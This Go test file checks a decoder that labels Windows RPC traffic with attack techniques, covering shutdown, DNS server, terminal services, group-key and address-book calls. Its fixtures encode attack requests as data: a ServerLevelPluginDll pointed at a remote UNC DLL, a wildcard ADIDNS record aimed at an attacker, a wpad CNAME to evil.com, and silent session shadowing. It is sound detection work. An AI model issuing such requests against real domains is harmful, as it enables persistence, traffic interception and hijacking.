package rpcops

import (
	"encoding/binary"
	"testing"
)

// Fixtures of the MS-RSP, MS-DNSP, MS-TSTS and MS-GKDI decoders, built
// from the specifications' IDL in both transfer syntaxes (the replay
// package checks the InitShutdown and DnsServer ones against tshark), and
// of mgmt and NSPI, whose stubs impacket 0.10.0 wrote (testdata/SOURCES.md).

func shutdownFixtures() []fixture {
	return []fixture{
		// BaseInitiateSystemShutdownEx: ServerName (one WCHAR), lpMessage,
		// dwTimeout, bForceAppsClosed, bRebootAfterShutdown, dwReason.
		{name: "BaseInitiateSystemShutdownEx", iface: initShutdownUUID, opnum: 2,
			req: func(s *sb) { s.ptr().u16('\\').ptr().ustr("patching").u32(60).u8(1).u8(1).u32(0x80020003) },
			want: want{op: "BaseInitiateSystemShutdownEx", target: "reboot", technique: TechShutdown, phase: PhaseImpact,
				fields: map[string]string{"message": "patching", "timeout": "60s", "force apps closed": "true",
					"reboot": "true", "reason": "operating system minor 3, planned (0x80020003)"}}},
		{name: "BaseInitiateSystemShutdown", iface: initShutdownUUID, opnum: 0,
			req: func(s *sb) { s.null().null().u32(0).u8(0).u8(0) },
			want: want{op: "BaseInitiateSystemShutdown", target: "shutdown", technique: TechShutdown, phase: PhaseImpact,
				fields: map[string]string{"timeout": "0s", "reboot": "false"}}},
		{name: "BaseAbortSystemShutdown", iface: initShutdownUUID, opnum: 1,
			req:  func(s *sb) { s.null() },
			want: want{op: "BaseAbortSystemShutdown"}},
		// WsdrInitiateShutdown: lpMessage, dwGracePeriod, dwShutdownFlags,
		// dwReason, lpClientHint.
		{name: "WsdrInitiateShutdown", iface: windowsShutdownUUID, opnum: 0,
			req: func(s *sb) { s.ptr().ustr("bye").u32(30).u32(0x5).u32(0x00040000).null() },
			want: want{op: "WsdrInitiateShutdown", target: "reboot", technique: TechShutdown, phase: PhaseImpact,
				fields: map[string]string{"message": "bye", "grace period": "30s", "flags": "FORCE_OTHERS|RESTART",
					"reason": "application minor 0 (0x00040000)"}}},
		{name: "WsdrAbortShutdown", iface: windowsShutdownUUID, opnum: 1,
			req:  func(s *sb) { s.null() },
			want: want{op: "WsdrAbortShutdown"}},
	}
}

func TestShutdownFixtures(t *testing.T) { runFixtures(t, shutdownFixtures()) }

// dnsRec writes a DNS_RPC_RECORD referent: conformance, then the header
// and the data.
func dnsRec(s *sb, typ uint16, data []byte) *sb {
	return s.size(len(data)).u16(uint16(len(data))).u16(typ).u32(0xf0).u32(1).u32(600).u32(0).u32(0).raw(data)
}

func dnsServerFixtures() []fixture {
	return []fixture{
		// dnscmd dc01 /config /serverlevelplugindll \\10.0.0.66\share\x.dll:
		// R_DnssrvOperation2(client version, setting flags, server, zone
		// NULL, context 0, "ServerLevelPluginDll", DNSSRV_TYPEID_LPWSTR).
		{name: "ServerLevelPluginDll UNC", iface: dnsServerUUID, opnum: 5,
			req: func(s *sb) {
				s.u32(0x70000).u32(0).wstrp("dc01").null().u32(0).ptr().astr("ServerLevelPluginDll").
					u32(3).alignP().u32(3).ptr().wstr(`\\10.0.0.66\share\x.dll`)
			},
			want: want{op: "R_DnssrvOperation2", target: "ServerLevelPluginDll", command: `\\10.0.0.66\share\x.dll`,
				technique: "T1543.003", phase: PhaseExecution,
				fields: map[string]string{"server": "dc01", "type": "LPWSTR", "dll": `\\10.0.0.66\share\x.dll`, "loaded from": "10.0.0.66"}}},
		{name: "ServerLevelPluginDll local", iface: dnsServerUUID, opnum: 0,
			req: func(s *sb) {
				s.wstrp("dc01").null().u32(0).ptr().astr("ServerLevelPluginDll").u32(3).alignP().u32(3).ptr().wstr(`C:\Windows\Temp\x.dll`)
			},
			want: want{op: "R_DnssrvOperation", target: "ServerLevelPluginDll", command: `C:\Windows\Temp\x.dll`,
				technique: "T1543.003", phase: PhaseExecution, fields: map[string]string{"dll": `C:\Windows\Temp\x.dll`}}},
		{name: "ServerLevelPluginDll cleared", iface: dnsServerUUID, opnum: 5,
			req: func(s *sb) {
				s.u32(0x70000).u32(0).null().null().u32(0).ptr().astr("ServerLevelPluginDll").u32(3).alignP().u32(3).null()
			},
			want: want{op: "R_DnssrvOperation2", fields: map[string]string{"dll": "(cleared)"}}},
		{name: "ResetDwordProperty", iface: dnsServerUUID, opnum: 5,
			req: func(s *sb) {
				s.u32(0x70000).u32(0).null().ptr().astr("corp.local").u32(0).ptr().astr("ResetDwordProperty").
					u32(15).alignP().u32(15).ptr().alignP().u32(1).ptr().astr("AllowUpdate")
			},
			want: want{op: "R_DnssrvOperation2", target: "corp.local: ResetDwordProperty",
				fields: map[string]string{"zone": "corp.local", "value": "AllowUpdate = 1"}}},
		// ADIDNS: a wildcard A record pointing at the attacker.
		{name: "UpdateRecord2 add A", iface: dnsServerUUID, opnum: 9,
			req: func(s *sb) {
				s.u32(0x70000).u32(0).wstrp("dc01").ptr().astr("corp.local").astr("*")
				dnsRec(s.ptr(), 1, []byte{10, 0, 0, 66}).null()
			},
			want: want{op: "R_DnssrvUpdateRecord2", target: "*.corp.local", command: "A 10.0.0.66 (ttl 600s)",
				technique: TechADIDNS, phase: PhaseCredAccess,
				fields: map[string]string{"node": "*", "add": "A", "add data": "10.0.0.66 (ttl 600s)"}}},
		{name: "UpdateRecord delete CNAME", iface: dnsServerUUID, opnum: 4,
			req: func(s *sb) {
				s.wstrp("dc01").ptr().astr("corp.local").astr("wpad.corp.local").null()
				dnsRec(s.ptr(), 5, append([]byte{8}, "evil.com"...))
			},
			want: want{op: "R_DnssrvUpdateRecord", target: "wpad.corp.local",
				fields: map[string]string{"delete": "CNAME", "delete data": "evil.com (ttl 600s)"}}},
		{name: "Query2 with answer", iface: dnsServerUUID, opnum: 6,
			req:  func(s *sb) { s.u32(0x70000).u32(0).wstrp("dc01").null().ptr().astr("ServerLevelPluginDll") },
			resp: func(s *sb) { s.u32(3).alignP().u32(3).ptr().wstr(`\\h\s\x.dll`).status(0) },
			want: want{op: "R_DnssrvQuery2", target: "ServerLevelPluginDll",
				fields: map[string]string{"query": "ServerLevelPluginDll", "answer": `\\h\s\x.dll`}}},
		{name: "EnumRecords2", iface: dnsServerUUID, opnum: 8,
			req: func(s *sb) {
				s.u32(0x70000).u32(0).wstrp("dc01").ptr().astr("corp.local").ptr().astr("@").null().u16(255).u32(0x1000000).null().null()
			},
			resp: func(s *sb) { s.u32(1234).ptr().size(0).status(0) },
			want: want{op: "R_DnssrvEnumRecords2", target: "@.corp.local", technique: "T1018", phase: PhaseRecon,
				fields: map[string]string{"record type": "ALL (255)", "returned": "1234 bytes of records"}}},
		{name: "ComplexOperation2 EnumZones", iface: dnsServerUUID, opnum: 7,
			req: func(s *sb) {
				s.u32(0x70000).u32(0).wstrp("dc01").null().ptr().astr("EnumZones").u32(1).alignP().u32(1).u32(1)
			},
			want: want{op: "R_DnssrvComplexOperation2", target: "EnumZones", technique: "T1018", phase: PhaseRecon}},
	}
}

func TestDNSServerFixtures(t *testing.T) { runFixtures(t, dnsServerFixtures()) }

func termSrvFixtures() []fixture {
	return []fixture{
		{name: "RpcOpenSession", iface: tsSessionUUID, opnum: 0,
			req: func(s *sb) { s.u32(2) }, resp: func(s *sb) { s.handle(h(7)).status(0) },
			want: want{op: "RpcOpenSession", target: "session 2", noise: true}},
		{name: "RpcConnect (tscon)", iface: tsSessionUUID, opnum: 2,
			req: func(s *sb) { s.handle(h(7)).u32(3).wstr("hunter2") },
			want: want{op: "RpcConnect", technique: TechRDPHijack, phase: PhaseLateral,
				fields: map[string]string{"onto session": "3", "password given": "true"}}},
		{name: "RpcGetUserName", iface: tsSessionUUID, opnum: 5,
			req:  func(s *sb) { s.handle(h(7)) },
			resp: func(s *sb) { s.wstrp("alice").wstrp("CORP").status(0) },
			want: want{op: "RpcGetUserName", technique: TechUserDiscovery, phase: PhaseRecon,
				fields: map[string]string{"user": `CORP\alice`}}},
		{name: "RpcGetSessionInformationEx", iface: tsSessionUUID, opnum: 17,
			req:  func(s *sb) { s.u32(1).u32(1) },
			want: want{op: "RpcGetSessionInformationEx", target: "session 1", technique: TechUserDiscovery, phase: PhaseRecon}},
		{name: "RpcLogoff", iface: tsSessionUUID, opnum: 4,
			req: func(s *sb) { s.handle(h(7)) }, want: want{op: "RpcLogoff"}},
		{name: "RpcGetEnumResult", iface: tsEnumUUID, opnum: 5,
			req:  func(s *sb) { s.handle(h(8)).u32(1) },
			resp: func(s *sb) { s.null().u32(3).status(0) },
			want: want{op: "RpcGetEnumResult", technique: TechUserDiscovery, phase: PhaseRecon,
				fields: map[string]string{"level": "1", "sessions": "3"}}},
		{name: "RpcGetClientData", iface: tsRCMPublicUUID, opnum: 0,
			req:  func(s *sb) { s.u32(2) },
			want: want{op: "RpcGetClientData", target: "session 2", technique: TechUserDiscovery, phase: PhaseRecon}},
		{name: "RpcShadow2", iface: tsSessEnvUUID, opnum: 0,
			req: func(s *sb) { s.u32(2).enum(1).enum(0).u32(512) },
			want: want{op: "RpcShadow2", target: "session 2", technique: TechRDPHijack, phase: PhaseLateral,
				fields: map[string]string{"control": "take control", "permission": "silent (user not asked)"}}},
		// RpcWinStationConnect: ClientLogonId, ConnectLogonId,
		// TargetLogonId, pPassword ([ref, size_is]), PasswordSize, Wait.
		{name: "RpcWinStationConnect", iface: tsLegacyUUID, opnum: 10,
			req: func(s *sb) { s.handle(h(9)).u32(1).u32(2).u32(1).size(1).u16(0).u32(1).u8(1) },
			want: want{op: "RpcWinStationConnect", technique: TechRDPHijack, phase: PhaseLateral,
				fields: map[string]string{"session": "2", "onto session": "1", "password given": "false"}}},
		{name: "RpcWinStationShadow", iface: tsLegacyUUID, opnum: 17,
			req: func(s *sb) {
				s.handle(h(9)).u32(1).ptr().size(4).u16('d').u16('c').u16('0').u16('1').u32(4).u32(3).u8(0x6a).u16(2)
			},
			want: want{op: "RpcWinStationShadow", technique: TechRDPHijack, phase: PhaseLateral,
				fields: map[string]string{"server": "dc01", "session": "3"}}},
		{name: "RpcWinStationShutdownSystem", iface: tsLegacyUUID, opnum: 15,
			req: func(s *sb) { s.handle(h(9)).u32(1).u32(0x6) },
			want: want{op: "RpcWinStationShutdownSystem", target: "reboot", technique: TechShutdown, phase: PhaseImpact,
				fields: map[string]string{"flags": "SHUTDOWN|REBOOT"}}},
		{name: "RpcWinStationQueryInformation", iface: tsLegacyUUID, opnum: 5,
			req: func(s *sb) { s.handle(h(9)).u32(2).u32(8).null().u32(0) },
			want: want{op: "RpcWinStationQueryInformation", target: "session 2", technique: TechUserDiscovery, phase: PhaseRecon,
				fields: map[string]string{"class": "WinStationInformation"}}},
		{name: "RpcWinStationGetAllProcesses", iface: tsLegacyUUID, opnum: 43,
			req:  func(s *sb) { s.handle(h(9)).u32(0).u32(0) },
			want: want{op: "RpcWinStationGetAllProcesses", technique: "T1057", phase: PhaseRecon}},
	}
}

func TestTermSrvFixtures(t *testing.T) { runFixtures(t, termSrvFixtures()) }

// selfRelativeSD builds a security descriptor (MS-DTYP 2.4.6) with owner
// SYSTEM and a DACL allowing each SID, as DPAPI-NG protection descriptors
// "SID=..." become.
func selfRelativeSD(sids ...[]byte) []byte {
	le := binary.LittleEndian
	owner := binSID(5, 18)
	var aces []byte
	for _, s := range sids {
		ace := make([]byte, 8, 8+len(s))
		ace[0] = 0 // ACCESS_ALLOWED_ACE_TYPE
		le.PutUint16(ace[2:], uint16(8+len(s)))
		le.PutUint32(ace[4:], 3)
		aces = append(aces, append(ace, s...)...)
	}
	acl := make([]byte, 8)
	acl[0] = 2
	le.PutUint16(acl[2:], uint16(8+len(aces)))
	le.PutUint16(acl[4:], uint16(len(sids)))
	acl = append(acl, aces...)
	sd := make([]byte, 20)
	sd[0] = 1
	le.PutUint16(sd[2:], 0x8004) // SE_SELF_RELATIVE | SE_DACL_PRESENT
	le.PutUint32(sd[4:], 20)
	le.PutUint32(sd[16:], uint32(20+len(owner)))
	return append(append(sd, owner...), acl...)
}

func binSID(auth byte, subs ...uint32) []byte {
	b := []byte{1, byte(len(subs)), 0, 0, 0, 0, 0, auth}
	for _, s := range subs {
		b = binary.LittleEndian.AppendUint32(b, s)
	}
	return b
}

// groupKeyEnvelope builds a Group Key Envelope (MS-GKDI 2.2.4) naming
// the domain and forest, with dummy key bytes.
func groupKeyEnvelope() []byte {
	le := binary.LittleEndian
	dom := utf16le("corp.local\x00")
	kdf := utf16le("SP800_108_CTR_HMAC\x00")
	b := le.AppendUint32(nil, 1)
	b = le.AppendUint32(b, 0x4b53444b) // "KDSK"
	b = le.AppendUint32(b, 2)
	b = le.AppendUint32(b, 361)
	b = le.AppendUint32(b, 17)
	b = le.AppendUint32(b, 0xffffffff)
	u := mustUUID("7d2b7e9e-0f0c-4a7b-8f3b-1b0f7c7a7a01")
	b = append(b, u[:]...)
	for _, n := range []int{len(kdf), 0, 0, 0, 0, 0, 64, 0, len(dom), len(dom)} {
		b = le.AppendUint32(b, uint32(n))
	}
	b = append(b, kdf...)
	b = append(b, dom...)
	b = append(b, dom...)
	return append(b, make([]byte, 64)...)
}

func gkdiFixtures() []fixture {
	sd := selfRelativeSD(binSID(5, 21, 1, 2, 3, 512), binSID(5, 18))
	env := groupKeyEnvelope()
	return []fixture{
		// GetKey: cbTargetSD, pbTargetSD ([ref, size_is]), pRootKeyID
		// (unique), L0KeyID, L1KeyID, L2KeyID.
		{name: "GetKey", iface: gkdiUUID, opnum: 0,
			req: func(s *sb) {
				s.u32(uint32(len(sd))).size(len(sd)).raw(sd).alignP().ptr().uuid("7d2b7e9e-0f0c-4a7b-8f3b-1b0f7c7a7a01").
					u32(361).u32(17).u32(0xffffffff)
			},
			resp: func(s *sb) { s.u32(uint32(len(env))).ptr().size(len(env)).raw(env).align(4).status(0) },
			want: want{op: "GetKey", technique: TechGroupKey, phase: PhaseCredAccess,
				target: "S-1-5-21-1-2-3-512 (Domain Admins), S-1-5-18 (SYSTEM)",
				fields: map[string]string{"root key": "7d2b7e9e-0f0c-4a7b-8f3b-1b0f7c7a7a01", "L0/L1/L2": "361/17/-1",
					"descriptor owner": "S-1-5-18", "domain": "corp.local", "forest": "corp.local",
					"returned": "group key envelope, L361/17/-1, root key 7d2b7e9e-0f0c-4a7b-8f3b-1b0f7c7a7a01"}}},
		{name: "GetKey current root", iface: gkdiUUID, opnum: 0,
			req: func(s *sb) {
				s.u32(uint32(len(sd))).size(len(sd)).raw(sd).alignP().null().u32(0xffffffff).u32(0xffffffff).u32(0xffffffff)
			},
			want: want{op: "GetKey", technique: TechGroupKey, phase: PhaseCredAccess,
				fields: map[string]string{"root key": "(current)", "L0/L1/L2": "-1/-1/-1"}}},
	}
}

func TestGKDIFixtures(t *testing.T) { runFixtures(t, gkdiFixtures()) }

// impacketStubs were written by impacket 0.10.0's mgmt and nspi classes
// (getData of the request or response objects: testdata/SOURCES.md).
var impacketStubs = map[string]string{
	// inq_if_idsResponse with svcctl v2.0 and ISDKey v1.0.
	"inq_if_ids resp": "43a400000200000002000000e1cb0000e59c000081bb7a364498f135ad3298f03800100302000000605978b94f52df118b6d83dcded720850100000000000000",
	// inq_princ_name(authn_proto=10, princ_name_size=256).
	"inq_princ_name": "0a00000000010000",
	// NspiBind(dwFlags=0, STAT with CodePage 1252, pServerGuid NULL).
	"NspiBind": "00000000000000000000000000000000000000000000000000000000e4040000000000000000000000000000",
	// NspiQueryRows(zero handle, STAT on the GAL, no explicit table, Count 500).
	"NspiQueryRows": "000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000e404000000000000000000000000000000000000f401000000000000",
	// NspiDNToMId of two legacy Exchange DNs.
	"NspiDNToMId": "000000000000000000000000000000000000000000000000020000000200000046100000440200004000000000000000400000002f6f3d436f72702f6f753d45786368616e67652041646d696e6973747261746976652047726f75702f636e3d526563697069656e74732f636e3d616c696365003e000000000000003e0000002f6f3d436f72702f6f753d45786368616e67652041646d696e6973747261746976652047726f75702f636e3d526563697069656e74732f636e3d626f6200",
	// NspiGetSpecialTable(dwFlags=NspiUnicodeStrings, pStat NULL).
	"NspiGetSpecialTable": "000000000000000000000000000000000000000004000000000000008ef7000000000000",
}

func TestMgmtNspiImpacket(t *testing.T) {
	stub := func(name string) []byte { return mustHex(t, impacketStubs[name]) }
	for _, c := range []struct {
		name string
		call Call
		want want
	}{
		{"rpc_mgmt_inq_if_ids", Call{Interface: mgmtUUID, Opnum: 0, Request: []byte{}, Response: stub("inq_if_ids resp")},
			want{op: "rpc_mgmt_inq_if_ids", technique: "T1046", phase: PhaseRecon,
				fields: map[string]string{"interfaces": "2", "served": "svcctl v2.0, ISDKey v1.0"}}},
		{"rpc_mgmt_inq_princ_name", Call{Interface: mgmtUUID, Opnum: 4, Request: stub("inq_princ_name")},
			want{op: "rpc_mgmt_inq_princ_name", technique: "T1046", phase: PhaseRecon,
				fields: map[string]string{"authentication": "NTLM"}}},
		{"rpc_mgmt_is_server_listening", Call{Interface: mgmtUUID, Opnum: 2}, want{op: "rpc_mgmt_is_server_listening"}},
		{"NspiBind", Call{Interface: nspiUUID, Opnum: 0, Request: stub("NspiBind")},
			want{op: "NspiBind", noise: true, fields: map[string]string{"container": "Global Address List"}}},
		{"NspiQueryRows", Call{Interface: nspiUUID, Opnum: 3, Request: stub("NspiQueryRows")},
			want{op: "NspiQueryRows", target: "Global Address List", technique: TechGAL, phase: PhaseRecon,
				fields: map[string]string{"rows asked": "500", "bulk": "500 rows in one call"}}},
		{"NspiDNToMId", Call{Interface: nspiUUID, Opnum: 7, Request: stub("NspiDNToMId")},
			want{op: "NspiDNToMId", target: "/o=Corp/ou=Exchange Administrative Group/cn=Recipients/cn=alice", technique: TechGAL, phase: PhaseRecon,
				fields: map[string]string{"names": "/o=Corp/ou=Exchange Administrative Group/cn=Recipients/cn=alice, /o=Corp/ou=Exchange Administrative Group/cn=Recipients/cn=bob"}}},
		{"NspiGetSpecialTable", Call{Interface: nspiUUID, Opnum: 12, Request: stub("NspiGetSpecialTable")},
			want{op: "NspiGetSpecialTable", target: "address book hierarchy", technique: TechGAL, phase: PhaseRecon,
				fields: map[string]string{"flags": "UNICODE_STRINGS"}}},
	} {
		t.Run(c.name, func(t *testing.T) { check(t, Decode(c.call), c.want) })
	}
}

// NspiQueryRows' answer: the STAT, then ppRows (a PropertyRowSet_r whose
// conformance precedes cRows); rows themselves are not decoded.
func nspiRowsFixtures() []fixture {
	return []fixture{
		{name: "QueryRows answer", iface: nspiUUID, opnum: 3,
			req:  func(s *sb) { s.handle(h(3)).u32(0).zeros(36).u32(0).null().u32(50).null() },
			resp: func(s *sb) { s.zeros(36).ptr().size(250).u32(250).zeros(16).status(0) },
			want: want{op: "NspiQueryRows", technique: TechGAL, phase: PhaseRecon,
				fields: map[string]string{"rows asked": "50", "rows returned": "250", "bulk": "250 rows in one answer"}}},
	}
}

func TestNspiRowsAnswer(t *testing.T) { runFixtures(t, nspiRowsFixtures()) }

// newOpsFixtures are every fixture above, for the fuzzer's seeds.
func newOpsFixtures() []fixture {
	var all []fixture
	for _, f := range []func() []fixture{shutdownFixtures, dnsServerFixtures, termSrvFixtures, gkdiFixtures, nspiRowsFixtures} {
		all = append(all, f()...)
	}
	return all
}
